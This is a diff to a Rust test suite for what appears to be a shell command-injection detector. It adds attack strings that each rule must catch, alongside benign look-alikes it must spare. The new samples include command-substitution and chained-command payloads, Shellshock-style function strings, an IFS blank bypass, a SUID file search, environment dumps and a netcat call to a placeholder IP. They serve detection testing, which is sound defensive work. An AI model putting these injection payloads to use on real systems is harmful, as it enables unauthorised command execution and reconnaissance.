@@ -224,7 +224,14 @@ fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
         ),
         (
             "run_and_replaced",
-            &["$(whoami)", "x=`id`", "`uname`", "\"`id`\""],
+            &[
+                "$(whoami)",
+                "$(printf 'id')",
+                "$(printf 'id')",
+                "x=`id`",
+                "`uname`",
+                "\"`id`\"",
+            ],
             &["use `less`, please", "$(document).ready", "a (cat) b"],
         ),
         (
@@ -236,7 +243,13 @@ fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
                 "() { _; } >_[$($())] { id; }",
                 "x() { :;};",
             ],
-            &["fn() { x }", "() => { y; }", "a () {", "f(){ return 1; }"],
+            &[
+                "fn() { x }",
+                "() => { y; }",
+                "a () {",
+                "f(){ return 1; }",
+                "() {",
+            ],
         ),
         (
             "interpreter_call",
@@ -342,7 +355,21 @@ fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
         (
             "further_command",
             &[
-                "a|id|", ";ls", "&&pwd", "; id", "a|id", "| id", "& id", "\nid\n", "x;id #",
+                "a|id|",
+                ";ls",
+                "&&pwd",
+                "; id",
+                "a|id",
+                "| id",
+                "& id",
+                "\nid\n",
+                "x;id #",
+                "; echo vulnerable",
+                "; env",
+                "& set",
+                "192.0.2.1\nid",
+                "; find / -perm -4000",
+                "|nc 192.0.2.1 9",
             ],
             &[
                 "id",
@@ -367,6 +394,7 @@ fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
                 "for a while",
                 "do this; then that",
                 "wait; then, if all is well",
+                "do this; then that; else wait",
             ],
         ),
         (
@@ -376,7 +404,7 @@ fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
         ),
         (
             "variable_for_blank",
-            &["cat$IFS/x", "{cat,/etc/x}"],
+            &["cat$IFS/x", "{cat,/etc/x}", "${IFS}id"],
             &["$if", "gifs", "{cat, dog}", "{a,b}"],
         ),
     ] {
